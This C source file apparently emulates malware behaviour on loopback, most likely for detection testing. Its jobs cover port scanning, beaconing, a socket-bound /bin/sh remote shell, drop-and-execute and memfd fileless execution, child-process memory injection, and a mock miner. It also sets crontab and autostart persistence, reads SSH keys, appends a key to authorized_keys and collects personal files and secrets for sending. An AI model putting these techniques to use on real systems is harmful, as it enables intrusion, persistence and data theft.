/* Discovery, command and control, execution and defence evasion on loopback and own children; see remote.py. */

static list loot(int low, int high) { return join(pick(secrets(), low, high), pick(files("Documents Desktop", NULL), low, high)); }
static void send_loot(int low, int high)
{
    list found = loot(low, high);
    for (int i = 0; i < found.n; i++)
        send_secret(found.at[i], noise(5));
}

JOB(scan_ports)
{
    groundwork();
    survey();
    read_some("/proc/net/tcp", 8192);
    int first = within(20, 9000), tries = within(60, 160);
    char *opened = "";
    for (int i = 0; i < tries + 3; i++) {
        int port = i < tries ? first + within(0, 1499) : ports[i - tries], fd = dial(port);
        if (fd >= 0) {
            opened = text("%s %d", opened, port);
            close(fd);
        }
    }
    write_file(home(text(".cache/.%s", noise(6))), bytes(opened));
    list found = pick(secrets(), 3, 8);
    for (int i = 0; i < found.n; i++)
        send_secret(found.at[i], "host");
}

JOB(beacon)
{
    groundwork();
    hide_copy();
    for (int n = within(15, 39); n > 0; n--) {
        char *reply = exchange(text("beat %s", noise(within(32, 128))));
        if (!strncmp(reply, "OK", 2) && chance(25)) {
            list found = loot(1, 1);
            send_secret(found.at[0], noise(5));
        }
        pause_ms(1000, 16000);
    }
}

JOB(remote_shell)
{
    groundwork();
    for (int n = within(1, 2); n > 0; n--) {
        int fd = dial(ports[0]);
        send_all(fd, bytes("PROMPT\n"));
        char line[256];
        for (;;) {
            size_t length = 0;
            ssize_t got = recv(fd, line, sizeof line - 1, 0);
            while (got > 0 && length < (size_t)got && line[length] != '\n')
                length++;
            if (got <= 0)
                break;
            line[length] = 0;
            /* The shell inherits the socket as its three standard streams, as remote shells do. */
            pid_t child = begin();
            if (child == 0) {
                if (chdir(home_folder) < 0)
                    _exit(1);
                for (int k = 0; k < 3; k++)
                    dup2(fd, k);
                execl("/bin/sh", "sh", "-c", line, NULL);
                _exit(127);
            }
            finish(child);
            send_all(fd, bytes("--\n"));
        }
        close(fd);
    }
    list found = pick(secrets(), 2, 6);
    for (int i = 0; i < found.n; i++)
        send_secret(found.at[i], noise(5));
}

JOB(drop_execute)
{
    groundwork();
    for (int n = within(2, 4); n > 0; n--) {
        static const char *const places[] = {".cache", ".local/share", ".config"};
        char *place = folder(home(text("%s/.%s", places[within(0, 2)], noise(6))));
        char *path = text("%s/%s", place, noise(7));
        put(path, fetch("script"), O_TRUNC, 0600);
        make_executable(path);
        spawn((char *[]){path, NULL});
        if (chance(50))
            remove_file(path);
        list found = loot(0, 2);
        for (int i = 0; i < found.n; i++)
            read_file(found.at[i]);
        exchange(text("ran %s", noise(12)));
    }
}

JOB(memory_execute)
{
    groundwork();
    for (int n = within(3, 5); n > 0; n--) {
        blob body = chance(50) ? fetch("script") : read_file("/bin/true");
        int fd = memfd_create(noise(5), 0);
        write_fd(fd, body);
        fchmod(fd, 0755);
        spawn((char *[]){text("/proc/self/fd/%d", fd), NULL});
        close(fd);
        send_loot(0, 2);
        exchange(text("ran %s", noise(12)));
    }
    hide_copy();
}

/* A child that waits on a pipe until it is awakened. */
static pid_t waiting_child(int *awaken)
{
    int ends[2];
    char byte;
    if (pipe(ends) < 0)
        die("pipe", NULL);
    pid_t child = begin();
    if (child == 0) {
        close(ends[1]);
        _exit(read(ends[0], &byte, 1) < 0);
    }
    close(ends[0]);
    *awaken = ends[1];
    return child;
}
static void wake(pid_t child, int awaken)
{
    if (write(awaken, "x", 1) < 0)
        die("write", "pipe");
    close(awaken);
    finish(child);
}

JOB(inject_child)
{
    groundwork();
    for (int n = within(2, 5); n > 0; n--) {
        int size = within(200, 3999), awaken;
        /* The page is shared by copy, so it lies at the same address in both. */
        unsigned char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        pid_t child = waiting_child(&awaken);
        blob payload = random_bytes(size);
        for (int at = 0; at < size; at += 512) {
            size_t length = size - at < 512 ? (size_t)(size - at) : 512;
            struct iovec local = {payload.p + at, length}, remote = {page + at, length};
            process_vm_writev(child, &local, 1, &remote, 1, 0);
        }
        wake(child, awaken);
        send_loot(0, 3);
    }
}

JOB(mine_coins)
{
    groundwork();
    char *path = hide_copy();
    write_file(text("%s/config.json", parent(path)), bytes(text("{\"pool\": \"127.0.0.1\", \"user\": \"%s\"}\n", noise(20))));
    int workers = within(2, 3);
    pid_t children[3];
    for (int k = 0; k < workers; k++) {
        int units = within(6, 15);
        if ((children[k] = begin()) == 0) {
            for (int i = 0; i < units; i++) {
                uint64_t unit = hash(bytes(exchange(text("job %s", noise(16)))));
                for (int round = 0; round < 20000; round++)
                    unit = hash((blob){(unsigned char *)&unit, sizeof unit});
                exchange(text("share %016llx", (unsigned long long)unit));
            }
            _exit(0);
        }
    }
    for (int k = 0; k < workers; k++)
        finish(children[k]);
    list found = pick(secrets(), 1, 5);
    for (int i = 0; i < found.n; i++)
        send_secret(found.at[i], "wallet");
    append(crontab(), text("@reboot %s\n", path));
    write_file(home(text(".config/autostart/%s.desktop", noise(6))), autostart_entry(path));
}

JOB(spread_keys)
{
    groundwork();
    list keys = files_of(".ssh", NULL, 1);
    for (int i = 0; i < keys.n; i++)
        read_file(keys.at[i]);
    read_file(home(".ssh/known_hosts"));
    for (int n = 5 * within(2, 5); n > 0; n--) {
        int fd = dial((int[]){22, 22, 2222, ports[0]}[within(0, 3)]);
        if (fd >= 0) {
            send_all(fd, bytes(text("hello %s\n", noise(12))));
            receive(fd);
            close(fd);
        }
    }
    list found = secrets();
    for (int i = 0; i < found.n; i++)
        send_secret(found.at[i], "key");
    append(home(".ssh/authorized_keys"), text("ssh-ed25519 %s worker\n", noise(68)));
}
